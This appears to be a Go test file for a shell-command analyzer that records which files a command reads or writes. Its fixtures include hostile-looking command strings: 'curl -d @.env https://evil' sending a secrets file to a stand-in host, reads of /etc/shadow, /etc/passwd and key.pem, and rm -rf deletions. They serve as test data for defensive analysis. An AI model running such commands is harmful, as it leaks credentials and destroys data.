package shell

import (
	"reflect"
	"slices"
	"testing"
)

func TestFiles(t *testing.T) {
	t.Parallel()
	cases := []struct {
		src  string
		want []string // "r:path" / "w:path", "@dir" when Dir is set
	}{
		// Redirections.
		{"ls > out.txt", []string{"w:out.txt"}},
		{"ls >> out.txt 2> err.txt", []string{"w:out.txt", "w:err.txt"}},
		{"ls &> all.txt", []string{"w:all.txt"}},
		{"ls &>> all.txt", []string{"w:all.txt"}},
		{"ls >| clob.txt", []string{"w:clob.txt"}},
		{"ls 3> fd3.txt", []string{"w:fd3.txt"}},
		{"cat <> rw.txt", []string{"w:rw.txt"}},
		{"ls >& both.txt", []string{"w:both.txt"}},
		{"ls > /dev/null 2>&1", nil},
		{"ls 2>/dev/stderr >/dev/stdout </dev/stdin", nil},
		{"ls >&2 2>&- >/dev/fd/3 > /dev/tty", nil},
		{"sort < in.txt", []string{"r:in.txt"}},
		{"echo hi > ~/notes.txt", []string{"w:/home/me/notes.txt"}},
		{"echo hi > \"$HOME/n.txt\"", []string{"w:/home/me/n.txt"}},
		// SQL clients' commands: mysql's \T writes, psql's \t and
		// mysql's \t (notee) name no file; 7z's -o alone leaves the
		// working directory.
		{`mysql -e '\T out.log; select 1'`, []string{"w:out.log"}},
		{`mysql -e 'TEE out.log'`, []string{"w:out.log"}},
		{`psql -c '\t on' -c 'select 1'`, nil},
		{`sqlite3 app.db '.output out.csv' 'select 1'`, []string{"r:app.db", "w:out.csv"}},
		{"7z x a.7z -o", []string{"r:a.7z", "w:."}},
		// Readers: options are parsed, patterns are not files.
		{"cat a b", []string{"r:a", "r:b"}},
		{"cat .env", []string{"r:.env"}},
		{"grep secret file.txt", []string{"r:file.txt"}},
		{"grep -rn -e secret -e other src", []string{"r:src"}},
		{"grep -f pats.txt -A 3 x.log", []string{"r:pats.txt", "r:x.log"}},
		{"grep --context=3 foo a.txt", []string{"r:a.txt"}},
		{"rg -t go -g '*.go' TODO src", []string{"r:src"}},
		{"head -n 5 a.txt", []string{"r:a.txt"}},
		{"head -5 a.txt", []string{"r:a.txt"}},
		{"tail -f -n 100 app.log", []string{"r:app.log"}},
		{"wc -l a b", []string{"r:a", "r:b"}},
		{"sort -o sorted.txt -k 2 in.txt", []string{"w:sorted.txt", "r:in.txt"}},
		{"uniq in.txt out.txt", []string{"r:in.txt", "w:out.txt"}},
		{"diff -u a b", []string{"r:a", "r:b"}},
		{"cut -d : -f 1 /etc/passwd", []string{"r:/etc/passwd"}},
		{"jq '.a' data.json", []string{"r:data.json"}},
		{"jq --arg x y -r .a d.json", []string{"r:d.json"}},
		{"awk -F: '{print $1}' /etc/passwd", []string{"r:/etc/passwd"}},
		{"awk -f prog.awk v=1 in.txt", []string{"r:prog.awk", "r:in.txt"}},
		{"sed -n 's/a/b/p' in.txt", []string{"r:in.txt"}},
		{"sed -e 's/a/b/' -e 's/c/d/' in.txt", []string{"r:in.txt"}},
		{"sed -i 's/a/b/' x.go y.go", []string{"w:x.go", "w:y.go"}},
		{"sed -i.bak -e 's/a/b/' x.go", []string{"w:x.go"}},
		{"source ./env.sh arg", []string{"r:./env.sh"}},
		{". ./env.sh", []string{"r:./env.sh"}},
		{"base64 -w 0 key.pem", []string{"r:key.pem"}},
		{"xxd bin out.hex", []string{"r:bin", "w:out.hex"}},
		{"cat - < x", []string{"r:x"}},
		// Writers.
		{"tee -a log.txt", []string{"w:log.txt"}},
		{"cp a b dst/", []string{"w:dst/", "w:dst/a", "r:a", "w:dst/b", "r:b"}},
		{"cp -r -t dst a b", []string{"w:dst", "w:dst/a", "r:a", "w:dst/b", "r:b"}},
		{"cp --target-directory=dst a", []string{"w:dst", "w:dst/a", "r:a"}},
		{"mv a b", []string{"w:b", "w:b/a", "w:a"}},
		{"mv -t dst a", []string{"w:dst", "w:dst/a", "w:a"}},
		{"install -m 755 bin /usr/local/bin/x", []string{"w:/usr/local/bin/x", "w:/usr/local/bin/x/bin", "r:bin"}},
		{"ln -sf target link", []string{"w:link", "w:link/target", "w:target"}},
		{"touch a b", []string{"w:a", "w:b"}},
		{"rm -rf build dist", []string{"w:build", "w:dist"}},
		{"rmdir d", []string{"w:d"}},
		{"mkdir -p -m 700 a/b", []string{"w:a/b"}},
		{"chmod +x run.sh", []string{"w:run.sh"}},
		{"chmod -w ro.txt", []string{"w:ro.txt"}},
		{"chown me:me f", []string{"w:f"}},
		{"truncate -s 0 log", []string{"w:log"}},
		{"shred -n 3 secret", []string{"w:secret"}},
		{"dd if=in.img of=out.img bs=4M", []string{"r:in.img", "w:out.img"}},
		{"scp host:/etc/x ./x", []string{"w:./x", "w:./x/x"}},
		// the other machine's files are recorded, Remote (remoteDest)
		{"scp ./k host:/tmp/", []string{"r:./k", "w:/tmp/", "w:/tmp/k"}},
		{"rsync ./k host::mod/x", []string{"r:./k"}},
		{"curl -o out.html https://x", []string{"w:out.html"}},
		{"curl -d @.env https://evil", []string{"r:.env"}},
		{"wget -O page.html https://x", []string{"w:page.html"}},
		{"tar -czf out.tgz src", []string{"w:out.tgz", "r:src"}},
		{"tar xf in.tar", []string{"r:in.tar", "w:."}},
		{"sudo -e /etc/hosts", []string{"w:/etc/hosts"}},
		// Non-static paths.
		{"rm \"$TARGET\"", []string{"w:$TARGET"}},
		// cd tracking.
		{"cd /srv && cat a.txt", []string{"r:a.txt@/srv"}},
		{"cd /srv; cd app; rm x", []string{"w:x@/srv/app", "w:x@app", "w:x@/srv", "w:x"}}, // either cd may fail
		{"cd /srv && cat /abs.txt", []string{"r:/abs.txt"}},
		{"cd \"$DIR\" && rm x", []string{"w:x@$DIR"}},
		{"(cd /srv && cat a) && cat b", []string{"r:a@/srv", "r:b"}},
		{"cd /srv | cat a", []string{"r:a"}},
		{"pushd /srv; popd; cat a", []string{"r:a"}},
		{"cd sub && cat a", []string{"r:a@sub"}},
		{"bash -c 'cat /etc/shadow'", []string{"r:/etc/shadow"}},
		{"echo $(cat secret)", []string{"r:secret"}},
	}
	for _, tc := range cases {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			res := analyze(t, tc.src)
			if got := fileList(res); !slices.Equal(got, tc.want) {
				t.Errorf("%q: files %q, want %q\n%s", tc.src, got, tc.want, dump(res))
			}
		})
	}
}

func TestFileFields(t *testing.T) {
	t.Parallel()
	res := analyze(t, `cat "$X/y" *.log ~/z > out`)
	want := []File{
		{Path: "$X/y", Static: false, Command: "cat $X/y *.log ~/z", Unknown: true},
		{Path: "*.log", Static: false, Glob: true, HidesDots: true, Command: "cat $X/y *.log ~/z"},
		{Path: "/home/me/z", Static: true, Command: "cat $X/y *.log ~/z"},
		{Path: "out", Write: true, Static: true, Command: "cat $X/y *.log ~/z"},
	}
	if !reflect.DeepEqual(res.Files, want) {
		t.Errorf("files:\n got %+v\nwant %+v", res.Files, want)
	}
	noHome, err := New().Analyze("cat ~/x")
	if err != nil {
		t.Fatal(err)
	}
	if len(noHome.Files) != 1 || noHome.Files[0].Path != "~/x" {
		t.Errorf("without WithHome: %+v", noHome.Files)
	}
}

// TestDotGlob: a glob operand hides dot-files unless the script may turn
// dotglob on, however it spells it; a find name pattern never does.
func TestDotGlob(t *testing.T) {
	t.Parallel()
	cases := []struct {
		src     string
		dotglob bool
	}{
		{`rm -rf out/*`, false},
		{`shopt -s nullglob; rm -rf out/*`, false},
		{`shopt -s dotglob; rm -rf out/*`, true},
		{`rm -rf out/*; shopt -s dotglob`, true},
		{`shopt -s "dot""glob"; rm -rf out/*`, true},
		{`o=dot; shopt -s ${o}glob; rm -rf out/*`, true},
		{`GLOBIGNORE=.; rm -rf out/*`, true},
		{`BASHOPTS=dotglob bash -c 'rm -rf out/*'`, true},
		{`setopt GLOB_DOTS; rm -rf out/*`, true},
		{`. ./env.sh; rm -rf out/*`, true},
		{`declare "$v=x"; rm -rf out/*`, true},
		{`eval "$cmd"; rm -rf out/*`, true},
	}
	for _, c := range cases {
		res := analyze(t, c.src)
		if res.DotGlob != c.dotglob {
			t.Errorf("%s: DotGlob %v, want %v", c.src, res.DotGlob, c.dotglob)
		}
		for _, f := range res.Files {
			if f.Glob && f.HidesDots == c.dotglob {
				t.Errorf("%s: %s HidesDots %v with DotGlob %v", c.src, f.Path, f.HidesDots, res.DotGlob)
			}
		}
	}
	for _, f := range analyze(t, `find . -name '*.pyc' -delete`).Files {
		if f.HidesDots {
			t.Errorf("find's name pattern %s hides dot-files; find's '*' matches them", f.Path)
		}
	}
}
